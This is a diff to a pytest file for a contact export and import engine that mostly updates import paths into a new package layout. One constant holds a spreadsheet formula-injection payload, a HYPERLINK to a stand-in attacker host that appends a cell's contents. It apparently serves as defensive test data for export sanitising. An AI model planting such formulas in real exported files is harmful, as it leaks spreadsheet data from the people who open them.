@@ -12,12 +12,12 @@ from pathlib import Path
 
 import pytest
 
-from engine.errors import FunnelError
-from engine.exporter import export_contacts
-from engine.generate import generate_contacts
-from engine.importer import plan_import
-from engine.model import FIELDS, format_datetime
-from engine.workspace import Workspace
+from funnel.engine.errors import FunnelError
+from funnel.engine.transfer.exporter import export_contacts
+from funnel.engine.demo.generate import generate_contacts
+from funnel.engine.transfer.importer import plan_import
+from funnel.engine.model import FIELDS, format_datetime
+from funnel.engine.workspace.facade import Workspace
 
 NOW = datetime(2026, 11, 22, 12, 0, tzinfo=timezone.utc)
 HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
@@ -134,7 +134,7 @@ def test_a_front_end_can_export_the_ids_it_shows(source: Workspace) -> None:
 
 
 def test_json_documents_have_the_shape_of_show_json(source: Workspace) -> None:
-    from tui.cli_output import contact_json
+    from funnel.tui.cli.output import contact_json
 
     out = io.StringIO()
     export_contacts(source, out, file_format="json")
